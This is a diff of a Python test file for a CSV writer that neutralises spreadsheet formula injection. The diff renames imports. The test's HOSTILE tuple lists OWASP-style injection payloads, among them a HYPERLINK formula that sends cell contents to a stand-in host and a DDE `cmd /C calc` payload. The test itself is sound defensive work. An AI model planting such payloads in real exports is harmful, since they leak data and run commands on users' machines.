@@ -1,4 +1,4 @@
-"""The one CSV writer (`_csv`): a cell a spreadsheet would run as a formula is written as text (a leading
+"""The one CSV writer (`csv_writer`): a cell a spreadsheet would run as a formula is written as text (a leading
 apostrophe) wherever elo_core writes CSV: the ladder's ranking and history (`ladder_csv`, the bridge's `csv` kind,
 `elo-core ladder --csv` and `--history`) and any table the widget sends (the tournament report's download);
 RFC 4180 quoting, the three separators, decimal commas under `;`."""
@@ -14,10 +14,10 @@ from pathlib import Path
 
 import pytest
 
-from elo_core._cli import main
-from elo_core._csv import cell, table_csv, write_csv
-from elo_core._ladder import ladder_csv, ladder_report
 from elo_core.bridge import ladder
+from elo_core.contract.csv_writer import cell, table_csv, write_csv
+from elo_core.reports.ladder import ladder_csv, ladder_report
+from elo_core.transport.cli import main
 
 HOSTILE = ('=HYPERLINK("http://x"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3")
 """Names a spreadsheet would run as formulas (OWASP's examples)."""
